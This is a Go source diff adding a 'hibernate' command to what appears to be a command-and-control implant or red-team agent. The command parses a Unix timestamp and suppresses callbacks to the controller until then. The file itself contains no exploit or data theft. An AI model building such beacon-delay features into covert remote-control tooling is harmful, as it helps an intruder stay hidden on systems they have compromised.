@@ -0,0 +1,51 @@
+package command
+
+import (
+	"encoding/json"
+	"fmt"
+	"log"
+	"time"
+)
+
+// CommandIDHibernate Hibernate 命令 ID
+const CommandIDHibernate uint32 = 16
+
+// HibernateUntil 休眠截止时间，在此之前 main.go 不会发起任何回连
+var HibernateUntil time.Time
+
+// HibernateCommand 实现 hibernate 命令
+type HibernateCommand struct{}
+
+func init() {
+	Register(&HibernateCommand{})
+}
+
+func (c *HibernateCommand) ID() uint32 {
+	return CommandIDHibernate
+}
+
+func (c *HibernateCommand) Name() string {
+	return "hibernate"
+}
+
+// HibernateArgs 定义 hibernate 命令的参数结构
+type HibernateArgs struct {
+	Until int64 `json:"until"` // Unix 时间戳（秒）
+}
+
+func (c *HibernateCommand) Execute(task *Task) ([]byte, error) {
+	var args HibernateArgs
+	if err := json.Unmarshal(task.Arguments, &args); err != nil {
+		return nil, fmt.Errorf("invalid hibernate arguments: %v", err)
+	}
+
+	until := time.Unix(args.Until, 0)
+	if !until.After(time.Now()) {
+		return nil, fmt.Errorf("hibernate timestamp is in the past: %s", until.Format(time.RFC3339))
+	}
+
+	HibernateUntil = until
+
+	log.Printf("Hibernating until %s", until.Format(time.RFC3339))
+	return []byte(fmt.Sprintf("Hibernating until %s", until.UTC().Format(time.RFC3339))), nil
+}